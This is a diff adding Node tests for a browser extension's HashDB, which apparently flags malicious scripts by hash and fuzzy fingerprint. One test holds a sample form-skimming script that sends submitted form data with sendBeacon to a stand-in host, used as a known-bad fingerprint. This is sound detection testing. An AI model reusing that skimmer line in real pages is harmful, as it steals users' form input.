@@ -0,0 +1,123 @@
+// HashDB tests against the packaged SHA256/shards fixtures (from firefox-extension/):  node --test test/*.test.js
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const { EXT_BASE, hashSandbox, fixture, sha256 } = require('./helpers/harness');
+
+const shardLines = prefix => fixture(`SHA256/shards/${prefix}.txt`).split(/\r?\n/).filter(Boolean);
+const shardFetches = (log, prefix) => log.filter(u => u === `${EXT_BASE}SHA256/shards/${prefix}.txt`).length;
+
+test('concurrent loadShard calls for one prefix share a single fetch and result', async () => {
+  const { HashDB, BinaryHashStore, fetchLog } = hashSandbox();
+
+  const loads = [HashDB.loadShard('00'), HashDB.loadShard('00'), HashDB.loadShard('00')];
+  assert.ok(HashDB.shardPromises['00'], 'load in progress is registered');
+  const [a, b, c] = await Promise.all(loads);
+
+  assert.equal(shardFetches(fetchLog, '00'), 1);
+  assert.equal(a, b);
+  assert.equal(b, c);
+  assert.equal(BinaryHashStore.count(a), new Set(shardLines('00')).size);
+  assert.equal(HashDB.shardPromises['00'], undefined, 'promise entry is cleaned up');
+
+  // Later calls are served from the cache
+  assert.equal(await HashDB.loadShard('00'), a);
+  assert.equal(shardFetches(fetchLog, '00'), 1);
+});
+
+test('loadShard normalizes the prefix and keeps different prefixes apart', async () => {
+  const { HashDB, BinaryHashStore, fetchLog } = hashSandbox();
+
+  const [upper, lower, other] = await Promise.all([HashDB.loadShard('AB'), HashDB.loadShard('ab'), HashDB.loadShard('ff')]);
+  assert.equal(upper, lower);
+  assert.notEqual(upper, other);
+  assert.equal(shardFetches(fetchLog, 'ab'), 1);
+  assert.equal(shardFetches(fetchLog, 'ff'), 1);
+  assert.equal(BinaryHashStore.count(other), new Set(shardLines('ff')).size);
+
+  assert.equal((await HashDB.loadShard('')).length, 0);
+  assert.equal((await HashDB.loadShard(null)).length, 0);
+});
+
+test('a shard that fails to load is cached as empty and does not break lookups', async () => {
+  const { HashDB, context } = hashSandbox();
+  const realFetch = context.fetch;
+  context.fetch = async url => {
+    if (String(url).endsWith('/SHA256/shards/00.txt')) throw new Error('network down');
+    return realFetch(url);
+  };
+
+  const shard = await HashDB.loadShard('00');
+  assert.equal(shard.length, 0);
+  assert.equal(HashDB.shardCache['00'], shard);
+  assert.equal(HashDB.shardPromises['00'], undefined);
+  assert.equal((await HashDB.checkHash(shardLines('00')[0])).found, false);
+});
+
+test('loadShard prefers a DBUpdater-cached remote shard over the packaged file', async () => {
+  const remoteHash = '00' + 'a'.repeat(62);
+  const text = remoteHash + '\n';
+  const { HashDB, BinaryHashStore, fetchLog } = hashSandbox({
+    storage: {
+      sha256_shard_meta_00: { sha256: sha256(text), version: 2 },
+      sha256_shard_00: text
+    }
+  });
+
+  const shard = await HashDB.loadShard('00');
+  assert.equal(BinaryHashStore.count(shard), 1);
+  assert.equal(HashDB.shardSources['00'], `remote:${sha256(text)}`);
+  assert.equal(shardFetches(fetchLog, '00'), 0);
+  assert.equal((await HashDB.checkHash(remoteHash)).found, true);
+  assert.equal((await HashDB.checkHash(shardLines('00')[0])).found, false);
+});
+
+test('checkHash finds packaged shard hashes by SHA256 and custom hashes by algorithm', async () => {
+  const { HashDB } = hashSandbox();
+  const known = shardLines('ff')[0];
+
+  const hit = await HashDB.checkHash({ sha256: known.toUpperCase() });
+  assert.equal(hit.found, true);
+  assert.equal(hit.source, 'shard:ff');
+  assert.equal(hit.matchedHash, known);
+
+  assert.equal((await HashDB.checkHash('ff' + '0'.repeat(62))).found, false);
+
+  const md5 = 'd41d8cd98f00b204e9800998ecf8427e';
+  HashDB.addCustomHashes([{ hash: md5.toUpperCase(), type: 'MD5', description: 'empty file' }]);
+  const custom = await HashDB.checkHash({ md5 });
+  assert.equal(custom.found, true);
+  assert.equal(custom.source, 'custom');
+  assert.equal(custom.type, 'MD5');
+});
+
+test('learned normalized hashes and fingerprints are forgotten when their source digest leaves the DB', async () => {
+  const { HashDB, get } = hashSandbox({ extraFiles: ['lib/acorn.min.js', 'utils/script-source.js', 'utils/fuzzy-hash.js', 'utils/similarity-db.js'] });
+  const SimilarityDB = get('SimilarityDB');
+  const FuzzyHash = get('FuzzyHash');
+  const [listed, custom] = shardLines('00');
+  const normA = 'a'.repeat(64);
+  const normB = 'b'.repeat(64);
+  const script = 'document.addEventListener("submit", function (e) { navigator.sendBeacon("https://x.example.invalid/c", new FormData(e.target)); }, true);';
+
+  HashDB.addCustomHashes([{ hash: custom.toUpperCase(), description: 'custom' }]);
+  HashDB.addNormalizedHash(normA, listed);
+  HashDB.addNormalizedHash(normB, custom);
+  await SimilarityDB.addKnownBad('script-a', FuzzyHash.fingerprint(script), 'a', listed);
+  await SimilarityDB.addKnownBad('script-b', FuzzyHash.fingerprint(script), 'b', custom);
+
+  const viaNormalized = await HashDB.checkHash({ normalized: normA });
+  assert.equal(viaNormalized.source, 'normalized:learned');
+  assert.equal(HashDB.matchSource(viaNormalized), listed);
+
+  HashDB.applyShardDelta('00', [], [listed], null);
+  assert.equal((await HashDB.checkHash({ normalized: normA })).found, false);
+  assert.equal((await HashDB.checkHash({ normalized: normB })).found, true);
+  await new Promise(resolve => setImmediate(resolve));
+  assert.equal(SimilarityDB.samples.has('script-a'), false);
+  assert.equal(SimilarityDB.samples.has('script-b'), true);
+
+  HashDB.addCustomHashes([]);
+  assert.equal((await HashDB.checkHash({ normalized: normB })).found, false);
+  await new Promise(resolve => setImmediate(resolve));
+  assert.equal(SimilarityDB.samples.has('script-b'), false);
+});